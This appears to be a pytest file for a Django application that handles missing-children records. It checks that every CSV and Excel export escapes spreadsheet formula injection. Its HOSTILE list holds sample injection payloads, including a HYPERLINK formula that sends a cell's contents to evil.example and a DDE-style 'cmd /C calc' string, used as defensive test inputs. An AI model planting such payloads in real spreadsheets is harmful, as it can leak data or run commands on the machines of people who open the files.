"""Formula injection (issue 4): no CSV or Excel file Homeward writes holds a live formula, whatever someone typed.
Every writer goes through core.spreadsheets; this file checks the helper, each export, and that no module
writes CSV or Excel without it (so a new export cannot forget)."""

import ast
import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from analytics.rollups import rebuild
from core.spreadsheets import safe_cell, safe_text
from returns import annex_a, ssda903
from tests.factories import ChildFactory, EpisodeFactory

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_is_made_text(text):
    assert safe_cell(text) == f"'{text}"
    assert safe_text(text) == f"'{text}"


@pytest.mark.parametrize("value", [-3, -2.5, 0, 12, dt.date(2025, 1, 1), None, "", "Home address", "'=quoted"])
def test_numbers_dates_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value


def test_safe_text_writes_nothing_for_none():
    assert safe_text(None) == ""
    assert safe_text(-3) == "'-3"  # as text it would be read back as a formula-start, so it is quoted


# --- every CSV/Excel writer in the project uses the helper ---------------------------------------------------

APPS: tuple[str, ...] = (
    "access",
    "accounts",
    "analytics",
    "children",
    "core",
    "episodes",
    "governance",
    "interviews",
    "network",
)
APPS += ("philomena", "returns", "risk", "sharing", "synthetic", "api")
APPS = ("access", "accounts", "analytics", "children", "core", "episodes", "governance", "interviews", "network")
APPS += ("philomena", "returns", "risk", "sharing", "synthetic", "api", "identity")


def _modules_writing_spreadsheets() -> list[Path]:
    found = []
    for app in APPS:
        for path in (Path(settings.BASE_DIR) / app).rglob("*.py"):
            if "migrations" in path.parts:
                continue
            tree = ast.parse(path.read_text())
            imported = {
                alias.name.split(".")[0]
                for node in ast.walk(tree)
                if isinstance(node, ast.Import | ast.ImportFrom)
                for alias in (node.names if isinstance(node, ast.Import) else [ast.alias(node.module or "")])
            }
            writes = "csv" in imported and ("writer(" in path.read_text() or "DictWriter(" in path.read_text())
            if writes or "openpyxl" in imported:
                found.append(path)
    return found


def test_every_module_that_writes_a_spreadsheet_uses_the_safe_cell_helper():
    modules = _modules_writing_spreadsheets()
    assert len(modules) >= 4  # analytics, the audit trail, SSDA903, Annex A
    unsafe = [str(p) for p in modules if "core.spreadsheets" not in p.read_text()]
    assert not unsafe, f"these write CSV/Excel without core.spreadsheets: {unsafe}"


# --- the dashboard downloads ----------------------------------------------------------------------------------


@pytest.fixture
def hostile_place(world, settings):
    """Two Northmoor children last seen at a 'place' that is a formula, so it is counted as a top place."""
    settings.HOMEWARD_DASHBOARD_PLACE_MIN_CHILDREN = 2
    settings.HOMEWARD_SMALL_NUMBER_SUPPRESSION = 0
    place = HOSTILE[0]
    seen = timezone.now() - dt.timedelta(days=3)
    for child in (world.child, ChildFactory(responsible_council=world.north, placement_council=world.north)):
        EpisodeFactory(
            child=child,
            police_force=world.police_north,
            created_by=world.users.police,
            last_seen_place=place,
            last_seen_at=seen,
            returned_at=seen + dt.timedelta(hours=2),
        )
    rebuild()
    return place


def _period() -> str:
    today = timezone.localdate()
    return f"start={today:%Y-%m}&end={today:%Y-%m}"


def test_the_dashboard_csv_holds_no_formula(world, hostile_place):
    client = Client()
    client.force_login(world.users.coordinator)
    url = reverse("analytics:download", args=["last-seen-places", "csv"]) + f"?{_period()}"
    response = client.get(url)
    assert response.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for c in row]
    assert f"'{hostile_place}" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]


def test_the_dashboard_workbook_holds_no_formula(world, hostile_place):
    client = Client()
    client.force_login(world.users.coordinator)
    for url in (
        reverse("analytics:download", args=["last-seen-places", "xlsx"]) + f"?{_period()}",
        reverse("analytics:workbook") + f"?{_period()}",
    ):
        response = client.get(url)
        assert response.status_code == 200
        book = load_workbook(io.BytesIO(response.content))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"], url
        assert f"'{hostile_place}" in [cell.value for cell in cells]


# --- the statutory returns -----------------------------------------------------------------------------------


def test_annex_a_csv_and_excel_hold_no_formula(tmp_path):
    row = dict.fromkeys(annex_a.HEADINGS, "")
    row["Child Unique ID"] = HOSTILE[0]
    row["Date of Birth"] = dt.date(2011, 3, 4)
    row[annex_a.MISSING_COUNT] = 2
    text = annex_a.write_csv([row], tmp_path / "list8.csv").read_text()
    assert f"'{HOSTILE[0]}".replace('"', '""') in text
    book = load_workbook(annex_a.write_xlsx([row], tmp_path / "list8.xlsx"))
    cells = [cell for sheet in book for r in sheet.iter_rows() for cell in r]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert f"'{HOSTILE[0]}" in [cell.value for cell in cells]
    assert 2 in [cell.value for cell in cells]  # numbers stay numbers


def test_ssda903_csv_holds_no_formula(tmp_path):
    tables = {
        name: [{column: (HOSTILE[3] if column == "CHILD" else "") for column in ssda903.TABLE_COLUMNS[name]}]
        for name in ssda903.FILE_NAMES
    }
    for path in ssda903.write_csv(tables, tmp_path):
        rows = list(csv.reader(path.open(encoding="utf-8")))
        cells = [c for row in rows[1:] for c in row]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))], path.name
        assert f"'{HOSTILE[3]}" in cells or "CHILD" not in rows[0]


# --- the new accounts' sign-in details (identity app: `bulk_add_users --out`) -----------------------------------


def test_the_sign_in_details_csv_holds_no_formula(world):
    from identity.actions import create_user
    from identity.bulk import credentials_csv

    account = create_user(
        acting_user=None,
        username="formula.person",
        first_name=HOSTILE[0],
        last_name=HOSTILE[3],
        agency=world.north,
        roles=["analyst"],
    )
    rows = list(csv.reader(io.StringIO(credentials_csv([account]))))
    cells = [cell for row in rows[1:] for cell in row]
    assert f"'{HOSTILE[0]}" in cells and f"'{HOSTILE[3]}" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
